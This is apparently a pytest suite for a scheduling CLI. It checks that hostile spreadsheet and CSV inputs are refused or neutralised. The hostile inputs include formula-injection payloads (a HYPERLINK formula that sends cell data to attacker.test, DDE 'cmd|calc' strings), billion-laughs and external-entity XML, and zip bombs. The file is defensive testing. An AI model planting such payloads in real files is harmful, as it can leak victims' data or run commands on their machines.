"""The command line against hostile tables (issue 10, findings 4, 8, 9 and 13), through the
real entry point: outputs run no formula, and every bad file is a listed message and exit 2,
never a traceback, with nothing written."""

from __future__ import annotations

import csv
import io

import pytest

from netweave.core import xlsx
from netweave.core.cells import FORMULA_START
from tests.hostile import hostile_workbooks, people_cells, sheet, workbook, zip_bomb

EVIL_NAME = '=HYPERLINK("http://attacker.test/?d="&A1,"Click")'


@pytest.fixture(autouse=True)
def _wide_terminal(monkeypatch):
    # rich wraps messages at the terminal's width: one message, one line, to assert on
    monkeypatch.setenv("COLUMNS", "1000")


def _people(tmp_path, rows: list[list[str]]):
    path = tmp_path / "people.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["email", "name", "community", "interests"], *rows])
    return path


def _formulas(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(FORMULA_START)]


def test_plan_outputs_run_no_formula(run_cli, tmp_path):
    rows = [["ana@x.org", EVIL_NAME, "+cmd|' /C calc'!A0", "onboarding"]]
    rows += [[f"p{i}@x.org", f"-P{i}", "@SUM(1+1)", "onboarding"] for i in range(7)]
    out = tmp_path / "out"
    result = run_cli("plan", _people(tmp_path, rows), "-r", "2", "--group-size", "4-4", "-o", out)
    assert result.returncode == 0, result.stderr
    schedule = (out / "schedule.csv").read_text()
    assert _formulas(schedule) == []
    assert "'" + EVIL_NAME in [c for row in csv.reader(io.StringIO(schedule)) for c in row]
    for path in (out / "zoom").glob("*.csv"):
        assert _formulas(path.read_text()) == [], path.name


def test_plan_refuses_an_email_that_starts_like_a_formula(run_cli, tmp_path):
    rows = [["ana@x.org", "Ana", "", ""], ["=cmd|'/ccalc'!a0@attacker.test", "Eve", "", ""]]
    people = _people(tmp_path, rows)
    result = run_cli("plan", people, "-r", "1", "-o", tmp_path / "out")
    assert result.returncode == 2
    assert f"{people}:3 [email]" in result.stderr
    assert "run as a formula" in result.stderr
    assert not (tmp_path / "out").exists()


def test_plan_refuses_a_nul_in_a_name(run_cli, tmp_path):
    people = _people(tmp_path, [["ana@x.org", "Ana\x00Lima", "", ""], ["bo@x.org", "Bo", "", ""]])
    result = run_cli("plan", people, "-r", "1", "-o", tmp_path / "out")
    assert result.returncode == 2
    assert f"{people}:2 [name]" in result.stderr
    assert "U+0000, NUL" in result.stderr


@pytest.mark.parametrize(
    "kind", ["bad-sheet", "bad-workbook", "billion-laughs", "external-entity", "not-a-zip"]
)
def test_plan_damaged_xlsx_is_a_message_not_a_traceback(run_cli, tmp_path, kind):
    path = hostile_workbooks(tmp_path / "files")[kind]
    result = run_cli("plan", path, "-r", "1", "-o", tmp_path / "out")
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert f"{path}:" in result.stderr
    assert "save it again as .xlsx" in result.stderr
    assert not (tmp_path / "out").exists()


def test_check_damaged_xlsx_is_a_message_not_a_traceback(run_cli, example_csv, tmp_path):
    run_cli("plan", example_csv, "-r", "1", "-o", tmp_path / "out")
    path = hostile_workbooks(tmp_path / "files")["billion-laughs"]
    result = run_cli("check", path, tmp_path / "out" / "plan.json")
    assert result.returncode == 2
    assert "declares XML entities" in result.stderr


def test_plan_zip_bomb_is_refused_by_its_inflated_size(run_cli, tmp_path):
    path = zip_bomb(tmp_path / "bomb.xlsx", xlsx.MAX_XML_BYTES + 1)
    result = run_cli("plan", path, "-r", "1", "-o", tmp_path / "out")
    assert result.returncode == 2
    assert "inflates to" in result.stderr


def test_plan_reads_a_false_dimension_as_the_real_cells(run_cli, tmp_path):
    xml = sheet(people_cells(8), dimension="A1:XFD1048576")
    path = workbook(tmp_path / "people.xlsx", xml)
    out = tmp_path / "out"
    result = run_cli("plan", path, "-r", "1", "--group-size", "4-4", "-o", out)
    assert result.returncode == 0, result.stderr
    header = (out / "schedule.csv").read_text().splitlines()[0]
    assert header.startswith("Round,Room")
